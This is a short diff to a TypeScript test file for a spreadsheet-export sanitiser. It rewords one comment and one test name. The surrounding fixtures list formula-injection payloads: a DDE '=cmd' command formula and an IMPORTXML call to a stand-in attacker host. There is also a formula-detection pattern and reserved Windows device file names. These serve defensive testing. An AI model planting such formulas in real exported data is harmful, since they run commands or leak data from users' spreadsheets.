@@ -27,7 +27,7 @@ const formulas = [
   '=cmd|"/C calc"!A0',
   '=IMPORTXML("https://evil.example","//a")',
 ];
-/** Whether a spreadsheet sees a formula: leading spaces are skipped, and full-width signs count. */
+/** Leading spaces are skipped, and full-width signs count. */
 const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell);
 const anyText = fc.string({ unit: hostileLetter });
 
@@ -65,7 +65,7 @@ describe('a cell of an exported table', () => {
 });
 
 describe('a file’s name', () => {
-  it('holds nothing but letters, digits and lines below, and is no device of Windows', () => {
+  it('holds only letters, digits and underscores, and is never a Windows device', () => {
     const names = [
       'CON',
       'nul',
